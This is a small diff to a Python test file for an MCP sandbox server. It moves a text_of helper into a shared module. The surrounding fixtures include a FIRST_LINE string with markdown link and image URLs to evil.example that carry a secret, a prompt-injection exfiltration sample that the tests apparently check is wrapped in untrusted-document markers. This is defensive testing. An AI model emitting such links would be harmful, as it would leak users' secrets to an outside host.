@@ -14,6 +14,7 @@ from sandbox.settings import SandboxSettings
 from sandbox.store.database import open_database
 from sandbox.testing import running_sandbox
 from tests.conftest import mcp_client, settings_for
+from tests.template.helpers import text_of
 
 pytestmark = pytest.mark.anyio
 
@@ -24,10 +25,6 @@ HOSTILE = (
 )
 FIRST_LINE = "Order Form [click here](https://evil.example/steal?d=SECRET) ![img](https://evil.example/p.png)"
 OWN_MARKERS = ("<untrusted-document-content", "</untrusted-document-content>")
-
-
-def text_of(result: Any) -> str:
-    return "\n".join(getattr(block, "text", "") for block in result.content)
 
 
 @pytest.fixture(scope="module")
